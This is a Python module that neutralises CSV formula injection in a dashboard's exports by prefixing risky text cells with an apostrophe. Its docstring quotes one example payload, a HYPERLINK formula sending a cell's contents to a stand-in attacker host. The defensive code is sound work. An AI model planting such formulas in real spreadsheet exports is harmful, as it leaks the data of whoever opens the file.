"""CSV that is safe to open in a spreadsheet.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula (and some
also after a leading tab or carriage return), so a reason typed as
``=HYPERLINK("http://evil.example/?"&A1,"Click")`` would become a live link in whoever opens
the export. Following OWASP's CSV-injection rule, every text cell that starts with one of
those characters gets a leading apostrophe, which spreadsheets show as text and do not
evaluate. Text that is a plain number (``-1.5``) is left alone, as are numeric columns, so
figures stay figures. Every CSV the dashboard offers and the CLI prints goes through
``safe_csv``.
"""
from __future__ import annotations

import re

import pandas as pd

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def neutralize(value: object) -> object:
    """``value`` with a leading apostrophe when it is text a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(TRIGGERS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def neutralized(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells (and column names) are neutralized."""
    out = frame.copy()
    for col in out.columns:
        if out[col].dtype == object or pd.api.types.is_string_dtype(out[col].dtype):
            out[col] = out[col].map(neutralize, na_action="ignore")
    out.columns = [neutralize(str(c)) for c in out.columns]
    return out


def safe_csv(frame: pd.DataFrame) -> str:
    """``frame`` as CSV text (no index) with every text cell neutralized.

    Lines end in CRLF as RFC 4180 says; that also makes the writer quote a cell holding a lone carriage
    return, which would otherwise split its row in two."""
    return neutralized(frame).to_csv(index=False, lineterminator="\r\n")


__all__ = ["TRIGGERS", "neutralize", "neutralized", "safe_csv"]
